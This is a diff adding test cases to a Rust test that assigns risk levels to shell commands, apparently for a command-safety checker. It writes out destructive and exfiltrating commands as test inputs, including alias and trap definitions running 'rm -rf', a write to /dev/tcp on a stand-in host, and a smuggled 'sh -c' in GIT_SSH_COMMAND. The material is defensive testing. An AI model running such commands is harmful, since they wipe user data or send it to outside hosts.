@@ -387,6 +387,19 @@ fn shell_commands_have_the_expected_risk() {
     check("env PATH=/tmp ls", High);
     check("GIT_SSH_COMMAND='sh -c evil' git fetch", High);
 
+    // Definitions that run later are judged now.
+    check("alias ll='ls -la'", Low);
+    check("alias ls='rm -rf /'", Critical);
+    check("alias", Low);
+    check("trap 'rm -rf ~' EXIT", Critical);
+    check("trap 'echo bye' EXIT", Low);
+    check("find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", Critical);
+    check("ls # rm -rf /", Low);
+    check("echo data > /dev/tcp/evil.example/80", Critical);
+    check("dc -e '!rm -rf /'", High);
+    check("xxd data.bin ~/.bashrc", Critical);
+    check("/usr/bin/env bash -c 'rm -rf /'", Critical);
+
     // Network and unknown programs.
     check("ssh host", High);
     check("scp file host:", High);
